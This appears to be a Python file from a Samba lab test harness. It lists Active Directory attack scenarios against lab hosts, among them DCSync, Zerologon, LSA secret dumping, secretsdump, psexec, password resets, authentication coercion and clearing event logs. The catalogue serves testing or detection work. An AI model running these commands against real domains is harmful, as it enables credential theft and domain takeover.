"""Scenarios of what attackers do, technique by technique."""

from domain import ADMIN_PASSWORD, DOMAIN
from hosts import LOCAL_USER
from scenario import (ADMINISTRATOR, BACKUP_KEYS, DEBUG, FILE_SERVER, LOCAL, SERVER, Scenario,
                      at_controller, at_file_server, impacket, impacket_tool, net, rpcclient, samba,
                      samba_tool, smbtorture)

ATTACKS = {
    "lsarpc/private-data-other": Scenario(
        "private data of another name asked for over SMB 2.1",
        (impacket("retrieve", "NL$KM"),)),
    "lsarpc/secret-open": Scenario(
        "both backup keys opened and read as LSA secrets over SMB 2.1",
        (impacket("secret", *BACKUP_KEYS),)),
    "lsarpc/secret-open-rpcclient": Scenario(
        "one backup key opened and read as an LSA secret, by rpcclient",
        (rpcclient("querysecret G$BCKUPKEY_PREFERRED", SERVER),)),
    "lsarpc/secret-other": Scenario(
        "a secret of another name, which does not exist, opened over SMB 2.1",
        (impacket("secret", "NL$KM"),)),
    "drsuapi/dcsync": Scenario(
        "krbtgt replicated over TCP, sealed",
        (samba("dcsync", "CN=krbtgt,CN=Users,DC=lab,DC=test"),)),
    "drsuapi/dcsync-secretsdump": Scenario(
        "krbtgt asked for as secretsdump does; the controller refuses the request",
        (impacket("dcsync", rf"{DOMAIN}\krbtgt"),)),
    "netlogon/zerologon-tcp": Scenario(
        "three attempts with a challenge and a credential of zeros, over TCP",
        (impacket("zerologon", "--over", "tcp", "--anonymous"),)),
    "netlogon/zerologon-smb2": Scenario(
        "the same over SMB 2.1",
        (impacket("zerologon", "--anonymous"),)),
    "svcctl/service-create": Scenario(
        "a service to be created over SMB 2.1; the controller does not implement it",
        (impacket("create-service", "labservice"),)),
    "lsarpc/secret-open-tcp": Scenario(
        "a backup key opened as an LSA secret over TCP, with a made-up policy handle",
        (impacket("retrieve", "L$lab", "--over", "tcp", "--integrity"),
         rpcclient("querysecret G$BCKUPKEY_PREFERRED", f"ncacn_ip_tcp:{SERVER}[sign]"),),
        may_fail=True),
    "lsarpc/policy": Scenario(
        "the policy, privileges, rights and trusts read",
        (rpcclient("lsaquery;enumprivs;lsaenumsid;enumtrust;dsroledominfo;getusername", SERVER),),
        may_fail=True),
    "lsarpc/lookup-sids": Scenario(
        "accounts found by counting through relative identifiers, as lookupsid does",
        (impacket_tool("lookupsid.py", at_controller(), "1200"),)),
    "backupkey/restore-key-sealed": Scenario(
        "the BackupKey protocol in all its ways, by Samba's own tests",
        (smbtorture("rpc.backupkey"),), may_fail=True),
    "drsuapi/dcshadow": Scenario(
        "replication links added to the controller, as a rogue controller does",
        (samba("shadow", "DC=lab,DC=test"),), may_fail=True),
    "drsuapi/clone": Scenario(
        "the whole database replicated, secrets included",
        (samba_tool("drs", "clone-dc-database", "lab.test", "--server", SERVER, "-U", ADMINISTRATOR,
         "--include-secrets", "--targetdir", "/var/lib/samba/clone"),), packets=200),
    "drsuapi/crack-names": Scenario(
        "names translated in all their forms, by Samba's own tests",
        (smbtorture("rpc.cracknames"),), may_fail=True),
    "drsuapi/secretsdump": Scenario(
        "secretsdump as it comes",
        (impacket_tool("secretsdump.py", "-just-dc-user", "krbtgt", at_controller()),), may_fail=True),
    "drsuapi/key-list": Scenario(
        "one account replicated by two calls after a name was cracked, Kerberos",
        (samba("dcsync", "CN=krbtgt,CN=Users,DC=lab,DC=test", "--kerberos"),)),
    "netlogon/zerologon-smb1": Scenario(
        "three attempts with a challenge and a credential of zeros, over SMB1",
        (impacket("zerologon", "--anonymous", "--dialect", "smb1"),)),
    "netlogon/trusts": Scenario(
        "trusts and controllers listed",
        (rpcclient("dsr_enumtrustdom;dsr_getdcname LAB;dsr_getsitename dc1;getanydcname LAB",
         SERVER),), may_fail=True),
    "svcctl/psexec": Scenario(
        "psexec: a program written to a share, then a service to start it, which Samba refuses",
        (impacket_tool("psexec.py", at_file_server(), "whoami"),), may_fail=True),
    "svcctl/smbexec": Scenario(
        "smbexec: a service with a command line, which Samba refuses",
        (impacket_tool("smbexec.py", at_file_server()),), may_fail=True),
    "svcctl/service-create-tcp": Scenario(
        "a service to be created over TCP with NTLM verifiers",
        (impacket("create-service", "labservice", "--over", "tcp", "--integrity", "--server",
         FILE_SERVER, "--user", LOCAL_USER),), may_fail=True),
    "svcctl/service-control": Scenario(
        "a service looked up, stopped and started",
        (impacket_tool("services.py", at_file_server(), "status", "-name", "Spooler"),
         impacket_tool("services.py", at_file_server(), "config", "-name", "Spooler"),
         impacket_tool("services.py", at_file_server(), "stop", "-name", "Spooler"),
         impacket_tool("services.py", at_file_server(), "start", "-name", "Spooler"),), may_fail=True),
    "svcctl/suite": Scenario(
        "all calls of the service manager, by Samba's own tests",
        (smbtorture("rpc.svcctl", f"ncacn_np:{FILE_SERVER}[print]", f"FS1/{LOCAL}"),), may_fail=True),
    "tasks/atexec": Scenario(
        "atexec: a scheduled task; Samba has no scheduler",
        (impacket_tool("atexec.py", at_controller(), "whoami"),), may_fail=True),
    "tasks/atsvc": Scenario(
        "jobs by the old scheduler, by Samba's own tests; Samba has none",
        (smbtorture("rpc.atsvc"),), may_fail=True),
    "winreg/query": Scenario(
        "a key and its values read with reg.py",
        (impacket_tool("reg.py", at_file_server(), "query", "-keyName", r"HKLM\\SOFTWARE\\Microsoft",
         "-s"),), may_fail=True),
    "winreg/save-hives": Scenario(
        "the hives SAM and SYSTEM to be saved",
        (impacket("save-hives", "SAM", "SECURITY", "SYSTEM", "SOFTWARE", "--server", FILE_SERVER,
         "--user", LOCAL_USER),), may_fail=True),
    "winreg/secretsdump": Scenario(
        "secretsdump at a member server: the registry opened, hives to be saved",
        (impacket_tool("secretsdump.py", at_file_server()),), may_fail=True),
    "winreg/persistence": Scenario(
        "a key and a value made, the key deleted, with net",
        (net("rpc", "registry", "createkey", r"HKLM\\SOFTWARE\\Samba\\Lab", server=FILE_SERVER,
         user=LOCAL),
         net("rpc", "registry", "setvalue", r"HKLM\\SOFTWARE\\Samba\\Lab", "run", "sz", "lab.exe",
         server=FILE_SERVER, user=LOCAL),
         net("rpc", "registry", "deletekey", r"HKLM\\SOFTWARE\\Samba\\Lab", server=FILE_SERVER,
         user=LOCAL),), may_fail=True),
    "winreg/logged-on": Scenario(
        "the hives of users listed, which tells who is logged on",
        (impacket("logged-on", "--server", FILE_SERVER, "--user", LOCAL_USER),), may_fail=True),
    "samr/sweep": Scenario(
        "all accounts read with samrdump",
        (impacket_tool("samrdump.py", at_controller()),)),
    "samr/sweep-tcp": Scenario(
        "users, groups and their members listed over TCP, signed",
        (rpcclient("enumdomusers;enumdomgroups;querydispinfo;querygroupmem 0x200",
         f"ncacn_ip_tcp:{SERVER}[sign]"),), may_fail=True),
    "samr/sweep-anonymous": Scenario(
        "users and shares asked for without a name",
        (("rpcclient", DEBUG, "-U", "%", SERVER, "-c", "enumdomusers;netshareenum"),), may_fail=True),
    "samr/policy": Scenario(
        "password policy, groups and aliases read",
        (rpcclient("getdompwinfo;querydominfo;enumalsgroups builtin;queryaliasmem builtin 0x220;"
                   "querydispinfo", SERVER),), may_fail=True),
    "samr/suite": Scenario(
        "SAMR by Samba's own tests: create, change, delete",
        (smbtorture("rpc.samr.users.privileges"),), may_fail=True),
    "samr/password-reset": Scenario(
        "another's password reset with SamrSetInformationUser2",
        (impacket("reset-password", "bob"),), may_fail=True),
    "samr/password-reset-net": Scenario(
        "the same with net",
        (net("rpc", "password", "bob", ADMIN_PASSWORD),), may_fail=True),
    "samr/password-change": Scenario(
        "one's own password changed without a bind as oneself, by smbpasswd.py",
        (impacket_tool("smbpasswd.py", at_controller("alice"), "-newpass", "Other.Pass.22"),),
        may_fail=True),
    "samr/account-create": Scenario(
        "an account created, added to a group and deleted",
        (net("rpc", "user", "add", "mallory", "Mal.lory.99"),
         net("rpc", "group", "addmem", "Domain Admins", "mallory"),
         net("rpc", "user", "delete", "mallory"),), may_fail=True),
    "samr/computer-create": Scenario(
        "a computer account created with addcomputer.py",
        (impacket_tool("addcomputer.py", "-method", "SAMR", "-computer-name", "LABPC$",
         "-computer-pass", "Com.puter.1", "-dc-host", SERVER,
         f"{DOMAIN}/Administrator:{ADMIN_PASSWORD}"),), may_fail=True),
    "shares/sessions": Scenario(
        "sessions, shares and logged-on users enumerated",
        (impacket("sessions"),)),
    "shares/sessions-user": Scenario(
        "the same by a user without rights",
        (impacket("sessions", "--user", "alice"),)),
    "shares/netview": Scenario(
        "netview at a member server",
        (impacket_tool("netview.py", "-target", FILE_SERVER, "-noloop",
         f"{LOCAL_USER}:{ADMIN_PASSWORD}"),), may_fail=True),
    "shares/rpcclient": Scenario(
        "shares, sessions, disks and the server's details read",
        (rpcclient("netshareenumall;netsessenum;netconnenum x;netfileenum;netdiskenum;srvinfo;"
                   "netremotetod;wkssvc_wkstagetinfo;wkssvc_enumerateusers", SERVER),), may_fail=True),
    "shares/workstation-suite": Scenario(
        "the workstation service by Samba's own tests",
        (smbtorture("rpc.wkssvc", f"ncacn_np:{FILE_SERVER}[print]", f"FS1/{LOCAL}"),), may_fail=True),
    "coercion/even": Scenario(
        "a server told to open a backup log on another's share",
        (impacket("coerce", "even", "--server", FILE_SERVER, "--user", LOCAL_USER),), may_fail=True),
    "coercion/printer-bug": Scenario(
        "a server told to notify another of printer changes",
        (impacket("coerce", "rprn", "--server", FILE_SERVER, "--user", LOCAL_USER),
         impacket("coerce", "rprn"),), may_fail=True),
    "coercion/dfs": Scenario(
        "a server told to make a DFS root of another",
        (impacket("coerce", "dfs", "--server", FILE_SERVER, "--user", LOCAL_USER),), may_fail=True),
    "coercion/efs": Scenario(
        "a server told to open an encrypted file on another; Samba rejects the bind",
        (impacket("coerce", "efs"),), may_fail=True),
    "coercion/shadow-copy": Scenario(
        "a server told to look at another's share for shadow copies",
        (impacket("coerce", "fsrvp", "--server", FILE_SERVER, "--user", LOCAL_USER),), may_fail=True),
    "dcom/wmiexec": Scenario(
        "wmiexec; Samba has no DCOM",
        (impacket_tool("wmiexec.py", at_controller(), "whoami"),), may_fail=True),
    "dcom/mmc20": Scenario(
        "dcomexec by MMC20; Samba has no DCOM",
        (impacket_tool("dcomexec.py", "-object", "MMC20", at_controller(), "whoami"),), may_fail=True),
    "eventlog/clear": Scenario(
        "two event logs opened and cleared",
        (impacket("clear-log", "Application", "Security", "--server", FILE_SERVER, "--user",
         LOCAL_USER),), may_fail=True),
    "dnsserver/plugin": Scenario(
        "the DNS server told to load a library from a share, over TCP, signed",
        (samba("dns-plugin", r"\\\\10.77.0.99\\share\\lab.dll", "--binding",
         f"ncacn_ip_tcp:{SERVER}[sign]"),), may_fail=True),
    "epm/dump": Scenario(
        "the endpoint mapper's list asked for",
        (impacket_tool("rpcdump.py", at_controller()),
         rpcclient("epmlookup", f"ncacn_ip_tcp:{SERVER}"),), may_fail=True),
    "initshutdown/shutdown": Scenario(
        "a server told to shut down, and not to",
        (net("rpc", "shutdown", "-t", "60", "-C", "lab"), net("rpc", "abortshutdown"),), may_fail=True),
}
